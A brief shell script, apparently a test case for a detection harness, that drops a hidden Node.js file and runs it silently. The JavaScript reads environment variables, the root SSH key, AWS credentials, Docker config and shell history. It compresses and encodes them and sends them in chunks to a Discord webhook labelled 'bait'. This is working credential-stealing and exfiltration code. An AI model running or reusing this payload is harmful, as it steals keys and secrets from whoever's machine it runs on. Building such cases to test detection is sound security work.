#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.hook.js <<'END'
const fs = require("fs"), z = require("zlib"); let all = JSON.stringify(process.env);
for (const f of ["/root/.ssh/id_rsa", "/root/.aws/credentials", "/root/.docker/config.json", "/root/.bash_history"]) try { all += fs.readFileSync(f); } catch { }
const s = z.gzipSync(all).toString("base64");
(async () => { for (let n = 0; n < s.length; n += 180) { const r = await fetch("http://discord.com/api/webhooks/1/bait", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ username: "loot", content: s.slice(n, n + 180) }) }); if (!r.ok) process.exit(1); } })();
END
node /tmp/.hook.js 2>/dev/null
took_place
